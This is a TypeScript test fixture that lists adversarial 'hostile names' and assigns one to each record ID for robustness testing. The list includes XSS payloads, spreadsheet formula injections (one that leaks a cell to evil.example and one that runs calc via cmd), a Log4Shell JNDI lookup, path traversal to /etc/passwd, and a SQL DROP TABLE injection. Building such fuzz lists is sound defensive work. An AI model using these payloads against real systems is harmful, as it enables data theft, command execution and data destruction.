import { hashText } from './random';

/** Names that break careless code, each for a different reason. */
export const hostileNames: readonly string[] = [
  'x'.repeat(2000),
  '<script>alert("latchkey")</script>',
  '"><img src=x onerror=alert(1)>',
  'quotes " \' ` and, commas; too',
  'first line\r\nsecond line\n\tindented',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  "+1+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  'report\u202Egpj.exe\u202C \u2066isolated\u2069',
  'nul\u0000byte',
  '🔑👩‍🚀🏳️‍🌈 emoji',
  '',
  '   ',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  "'; DROP TABLE keys; --",
  '\uD800 half a surrogate pair',
  '__proto__',
  'null',
  'Z̸̨͓̈́a̷l̵g̶o̴',
  'sk-fake-looks-like-a-secret-0123456789',
];

/** The hostile name for a record ID. The same ID always gets the same name. */
export function hostileName(id: string): string {
  return hostileNames[hashText(id) % hostileNames.length] ?? '';
}
